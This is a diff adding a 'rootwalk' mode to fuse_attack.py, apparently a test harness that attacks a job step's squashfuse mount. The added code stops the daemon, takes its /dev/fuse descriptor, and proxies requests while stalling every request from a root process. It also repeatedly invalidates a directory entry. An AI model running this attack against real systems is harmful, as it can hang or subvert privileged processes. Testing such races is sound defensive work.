@@ -12,6 +12,13 @@
       when the step's mount point appears in USER_DIR, rename OTHER_LINK (a symlink to
       another valid image) over IMAGE: the daemon, which opens the image after that, must
       not serve the other image
+  fuse_attack.py rootwalk SECONDS MARKER IMAGE NAME
+      take the step's daemon's /dev/fuse descriptor while it waits for a request (stopped,
+      so every request comes to us), and serve the connection with a squashfuse_ll of the
+      user's own on IMAGE (through a socket: /dev/fd/N) for every process but one of
+      real uid 0, whose requests are read and never answered ("root OPCODE PID"); the
+      entry NAME under the mount's root (the first name of the job's working directory)
+      is invalidated every few milliseconds, so that a walk through it asks the mount
   fuse_attack.py ownfs SECONDS MARKER MOUNTPOINT
       mount a FUSE filesystem of the user's own on MOUNTPOINT (fusermount3: /dev/fuse must
       be open to users, as most distributions ship it), answer FUSE_INIT and no other
@@ -28,11 +35,16 @@ import socket
 import struct
 import subprocess
 import sys
+import threading
 import time
 
 libc = ctypes.CDLL(None, use_errno=True)
 SYS_PIDFD_GETFD = 438
 FUSE_INIT = 26
+FUSE_INTERRUPT = 36
+FUSE_NOTIFY_INVAL_ENTRY = 3
+# FUSE_SPLICE_WRITE, FUSE_SPLICE_MOVE, FUSE_SPLICE_READ: not on a socket.
+FUSE_SPLICE_FLAGS = (1 << 7) | (1 << 8) | (1 << 9)
 IN_HEADER = struct.Struct("<IIQQIIIHH")  # len opcode unique nodeid uid gid pid total_extlen padding
 
 
@@ -41,25 +53,31 @@ def note(marker, text):
         f.write(text + "\n")
 
 
-def my_daemon(deadline):
-    """The newest squashfuse_ll of ours, or None once the deadline passed."""
+def daemons():
+    """The squashfuse_ll processes of ours that run (not stopped)."""
     uid = os.getuid()
+    found = []
+    for pid in os.listdir("/proc"):
+        if not pid.isdigit():
+            continue
+        try:
+            with open(f"/proc/{pid}/comm") as f:
+                if f.read().strip() != "squashfuse_ll":
+                    continue
+            with open(f"/proc/{pid}/stat") as f:
+                if f.read().rsplit(")", 1)[1].split()[0] not in "RSD":
+                    continue  # stopped by an earlier attack, or gone
+            if os.stat(f"/proc/{pid}").st_uid == uid:
+                found.append(int(pid))
+        except OSError:
+            continue
+    return found
+
+
+def my_daemon(deadline, exclude=()):
+    """The newest squashfuse_ll of ours (not one of exclude), or None once the deadline passed."""
     while time.monotonic() < deadline:
-        found = []
-        for pid in os.listdir("/proc"):
-            if not pid.isdigit():
-                continue
-            try:
-                with open(f"/proc/{pid}/comm") as f:
-                    if f.read().strip() != "squashfuse_ll":
-                        continue
-                with open(f"/proc/{pid}/stat") as f:
-                    if f.read().rsplit(")", 1)[1].split()[0] not in "RSD":
-                        continue  # stopped by an earlier attack, or gone
-                if os.stat(f"/proc/{pid}").st_uid == uid:
-                    found.append(int(pid))
-            except OSError:
-                continue
+        found = [pid for pid in daemons() if pid not in exclude]
         if found:
             return max(found)
         time.sleep(0.001)
@@ -172,6 +190,203 @@ def ownfs(seconds, marker, mountpoint):
     return 0
 
 
+def idle_in_read(pid):
+    """The daemon (one thread) asleep in read(2) of its /dev/fuse with no request in hand."""
+    try:
+        with open(f"/proc/{pid}/stat") as f:
+            state = f.read().rsplit(")", 1)[1].split()[0]
+        with open(f"/proc/{pid}/wchan") as f:
+            wchan = f.read()
+        return state == "S" and "fuse_dev" in wchan
+    except OSError:
+        return False
+
+
+def io_counts(pid):
+    try:
+        with open(f"/proc/{pid}/io") as f:
+            return [line for line in f if line.startswith(("rchar", "wchar"))]
+    except OSError:
+        return None
+
+
+def real_uid(pid):
+    try:
+        with open(f"/proc/{pid}/status") as f:
+            for line in f:
+                if line.startswith("Uid:"):
+                    return int(line.split()[1])
+    except OSError:
+        pass
+    return None
+
+
+def rootwalk(seconds, marker, image, name):
+    deadline = time.monotonic() + seconds
+    before = set(daemons())
+    note(marker, "watching")
+    pid = my_daemon(deadline, exclude=before)
+    if pid is None:
+        note(marker, "no daemon")
+        return 1
+    # Stopped at first sight, while FUSE_INIT still waits in the kernel (the mount is made
+    # before the daemon starts): every request comes to us, the first one too.
+    early = None
+    os.kill(pid, signal.SIGSTOP)
+    try:
+        fuse = steal(pid, 3)
+        if select.select([fuse], [], [], 0)[0]:
+            early = fuse
+        else:
+            os.close(fuse)
+    except OSError:
+        pass
+    if early is None:
+        os.kill(pid, signal.SIGCONT)
+    # Else stopped only while it waits for a request: then none is left half-served.
+    while early is None:
+        if time.monotonic() >= deadline:
+            note(marker, "daemon never idle")
+            return 1
+        before = io_counts(pid)
+        if not idle_in_read(pid):
+            time.sleep(0.0002)
+            continue
+        os.kill(pid, signal.SIGSTOP)
+        # Nothing read or written since it was seen waiting: no request in its hands.
+        if io_counts(pid) == before:
+            break
+        os.kill(pid, signal.SIGCONT)
+    fuse = early if early is not None else steal(pid, 3)
+    note(marker, f"stolen {pid}" + (" before FUSE_INIT" if early is not None else ""))
+    # Our own squashfuse_ll serves the user's image on one end of a socket (libfuse takes
+    # /dev/fd/N as a descriptor it reads requests from and writes answers to).
+    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
+    log = open(marker + ".server", "w")
+    server = subprocess.Popen(["squashfuse_ll", "-f", image, f"/dev/fd/{theirs.fileno()}"],
+                              pass_fds=[theirs.fileno()], stdin=subprocess.DEVNULL, stdout=log, stderr=log)
+    theirs.close()
+    note(marker, f"server {server.pid}")
+    proxy = Proxy(fuse, ours)
+    # The kernel keeps the name cached for ever (squashfuse's timeouts): it is invalidated
+    # again and again, from a thread of its own (the kernel takes the directory's lock for
+    # it, which a lookup waiting for our answer may hold).
+    threading.Thread(target=invalidate, args=(fuse, name, deadline), daemon=True).start()
+    held = set()
+    while time.monotonic() < deadline:
+        ready, _, _ = select.select([fuse, ours], [], [], 0.2)
+        if fuse in ready:
+            try:
+                request = os.read(fuse, 1 << 21)
+            except OSError as error:
+                note(marker, f"read: {error.strerror}")
+                break
+            _, opcode, unique, _, _, _, rpid, *_ = IN_HEADER.unpack_from(request)
+            if opcode != FUSE_INIT and real_uid(rpid) == 0:
+                if rpid not in held:
+                    note(marker, f"root {opcode} {rpid}")
+                    held.add(rpid)
+                continue
+            proxy.from_kernel(request)
+        if ours in ready and not proxy.from_server():
+            note(marker, f"server gone after {proxy.last}")
+            break
+    server.kill()
+    return 0
+
+
+def invalidate(fuse, name, deadline):
+    name = name.encode()
+    body = struct.pack("<QII", 1, len(name), 0) + name + b"\0"
+    notify = struct.pack("<IiQ", 16 + len(body), FUSE_NOTIFY_INVAL_ENTRY, 0) + body
+    while time.monotonic() < deadline:
+        try:
+            os.write(fuse, notify)
+        except OSError:
+            pass  # not in the kernel's cache (yet)
+        time.sleep(0.002)
+
+
+class Proxy:
+    """Requests from the kernel to our squashfuse_ll and its answers back, for a connection
+    another daemon served before: FUSE_INIT made up when the kernel's was answered already,
+    and file handles that daemon gave (unknown to ours) opened again on ours."""
+
+    OPEN, OPENDIR, RELEASE, RELEASEDIR, READ, READDIR, FLUSH, READDIRPLUS = 14, 27, 18, 29, 15, 28, 25, 44
+    OWN = 1 << 60
+
+    def __init__(self, fuse, server):
+        self.fuse, self.server = fuse, server
+        self.inited = False
+        self.handles = {}  # the other daemon's fh -> ours
+        self.known = set()  # ours
+        self.opening = {}  # unique of an open we forwarded -> True
+        self.own = 0
+        self.last = []
+
+    def ask(self, opcode, nodeid, body):
+        """A request of our own to the server; its answer, other answers forwarded meanwhile."""
+        self.own += 1
+        unique = self.OWN + self.own
+        self.server.send(IN_HEADER.pack(IN_HEADER.size + len(body), opcode, unique, nodeid, 0, 0, 0, 0, 0) + body)
+        while True:
+            answer = self.server.recv(1 << 21)
+            if not answer:
+                return None
+            if struct.unpack_from("<Q", answer, 8)[0] == unique:
+                return answer
+            self.to_kernel(answer)
+
+    def to_kernel(self, answer):
+        unique = struct.unpack_from("<Q", answer, 8)[0]
+        if self.opening.pop(unique, False) and struct.unpack_from("<i", answer, 4)[0] == 0:
+            self.known.add(struct.unpack_from("<Q", answer, 16)[0])
+        try:
+            os.write(self.fuse, answer)
+        except OSError:
+            pass  # interrupted meanwhile
+
+    def from_kernel(self, request):
+        request = bytearray(request)
+        _, opcode, unique, nodeid, *_ = IN_HEADER.unpack_from(request)
+        self.last = (self.last + [opcode])[-8:]
+        if opcode == FUSE_INIT:
+            # Not with splice: ours reads a socket.
+            flags = struct.unpack_from("<I", request, IN_HEADER.size + 12)[0]
+            struct.pack_into("<I", request, IN_HEADER.size + 12, flags & ~FUSE_SPLICE_FLAGS)
+            self.inited = True
+            self.server.send(bytes(request))
+            return
+        if not self.inited:
+            self.inited = True
+            self.ask(FUSE_INIT, 0, struct.pack("<IIII", 7, 31, 1 << 17, (1 << 0) | (1 << 5)).ljust(64, b"\0"))
+        if opcode == FUSE_INTERRUPT:
+            return
+        if opcode in (self.OPEN, self.OPENDIR):
+            self.opening[unique] = True
+        if opcode in (self.READ, self.READDIR, self.READDIRPLUS, self.FLUSH, self.RELEASE, self.RELEASEDIR):
+            fh = struct.unpack_from("<Q", request, IN_HEADER.size)[0]
+            if fh not in self.known:
+                if opcode in (self.RELEASE, self.RELEASEDIR, self.FLUSH):
+                    os.write(self.fuse, struct.pack("<IiQ", 16, 0, unique))
+                    return
+                if fh not in self.handles:
+                    answer = self.ask(self.OPENDIR if opcode != self.READ else self.OPEN, nodeid, struct.pack("<II", 0, 0))
+                    if answer is None or struct.unpack_from("<i", answer, 4)[0] != 0:
+                        os.write(self.fuse, struct.pack("<IiQ", 16, -5, unique))
+                        return
+                    self.handles[fh] = struct.unpack_from("<Q", answer, 16)[0]
+                struct.pack_into("<Q", request, IN_HEADER.size, self.handles[fh])
+        self.server.send(bytes(request))
+
+    def from_server(self):
+        answer = self.server.recv(1 << 21)
+        if not answer:
+            return False
+        self.to_kernel(answer)
+        return True
+
+
 def main():
     mode, seconds, marker = sys.argv[1], float(sys.argv[2]), sys.argv[3]
     note(marker, f"pid {os.getpid()}")
@@ -181,6 +396,8 @@ def main():
         return swap(seconds, marker, *sys.argv[4:7])
     if mode == "replace":
         return replace(seconds, marker, *sys.argv[4:7])
+    if mode == "rootwalk":
+        return rootwalk(seconds, marker, *sys.argv[4:6])
     if mode == "ownfs":
         return ownfs(seconds, marker, sys.argv[4])
     print(f"unknown mode {mode}", file=sys.stderr)
